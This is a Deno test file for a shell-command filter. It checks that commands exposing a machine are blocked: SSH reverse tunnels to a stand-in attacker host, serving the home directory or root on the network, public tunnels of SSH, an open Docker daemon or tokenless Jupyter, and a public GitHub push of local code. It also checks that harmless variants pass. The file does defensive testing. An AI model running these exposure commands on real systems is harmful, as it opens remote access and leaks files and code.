import assert from "node:assert/strict";
import { blocked, fired, HOME } from "./test_helpers.ts";

Deno.test("exposure: reverse tunnels block, local forwards pass", () => {
  for (
    const cmd of [
      "ssh -R 8080:localhost:22 attacker@evil.example.com",
      "ssh -fNR 2222:127.0.0.1:22 user@203.0.113.5",
      "ssh -o RemoteForward='9000 localhost:22' relay@203.0.113.7",
      "autossh -M 0 -R 9000:localhost:22 relay",
    ]
  ) assert.ok(blocked(cmd).includes("reverse_tunnel"), `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "ssh -L 5432:localhost:5432 bastion",
      "ssh -N -L 8080:localhost:80 web.example.com",
      "ssh -T git@github.com",
      "ssh host 'ls -R /srv'",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});

Deno.test("exposure: serving home or / to the network blocks", () => {
  for (
    const cmd of [
      "python3 -m http.server 8000 --bind 0.0.0.0 --directory ~",
      "cd ~ && python3 -m http.server",
      "python3 -m http.server -d / 9999",
      "php -S 0.0.0.0:8000 -t ~",
    ]
  ) assert.ok(blocked(cmd).includes("home_served"), `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "python3 -m http.server 8000",
      "python3 -m http.server --directory dist 8080",
      "python3 -m http.server --bind 127.0.0.1 --directory ~",
      "php -S localhost:8000 -t public",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
  assert.ok(HOME);
});

Deno.test("exposure: public tunnels of SSH or raw TCP block, web dev tunnels pass", () => {
  for (
    const cmd of [
      "ngrok tcp 22",
      "ngrok http 22",
      "cloudflared tunnel --url ssh://localhost:22",
      "lt --port 22",
      "kubectl debug node/worker-1 -it --image=ubuntu",
    ]
  ) assert.ok(blocked(cmd).length > 0, `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "ngrok http 3000",
      "cloudflared tunnel --url http://localhost:8080",
      "lt --port 3000",
      "kubectl debug mypod -it --image=busybox",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});

Deno.test("exposure: code-running services opened to the network, and public repositories from local code", () => {
  for (
    const cmd of [
      "sudo dockerd -H tcp://0.0.0.0:2375",
      "dockerd -H tcp://:2375",
      "jupyter notebook --ip=0.0.0.0 --NotebookApp.token=''",
      "gh repo create leak --public --source=. --push",
    ]
  ) assert.ok(blocked(cmd).length > 0, `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "dockerd -H unix:///var/run/docker.sock -H tcp://127.0.0.1:2375",
      "dockerd --host=tcp://0.0.0.0:2376 --tlsverify --tlscacert=ca.pem",
      "jupyter lab --ip=0.0.0.0 --port 8888",
      "jupyter lab --ServerApp.token='' --ip 127.0.0.1",
      "gh repo create my-lib --private --source=. --push",
      "gh repo create demo --public",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});
